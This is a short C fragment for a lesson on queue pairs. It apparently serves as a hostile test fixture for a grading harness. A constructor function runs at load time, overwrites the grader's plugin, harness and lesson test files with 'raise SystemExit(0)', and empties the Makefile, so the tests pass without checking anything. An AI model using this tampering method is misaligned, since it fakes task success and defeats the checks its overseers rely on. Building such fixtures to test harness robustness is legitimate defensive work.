/* lesson: 03-queue-pairs */
__attribute__((constructor)) static void hostile_tamper(void)
{
	static const char *files[] = { "grader/session/plugin.py", "grader/core/harness.py",
				       "grader/lessons/test_03_queue_pairs.py" };
	char course[PATH_MAX];
	unsigned int i;

	if (hostile_course(course, sizeof(course)))
		return;
	for (i = 0; i < sizeof(files) / sizeof(files[0]); i++)
		hostile_write(course, files[i], "raise SystemExit(0)\n");
	truncate("Makefile", 0);
}
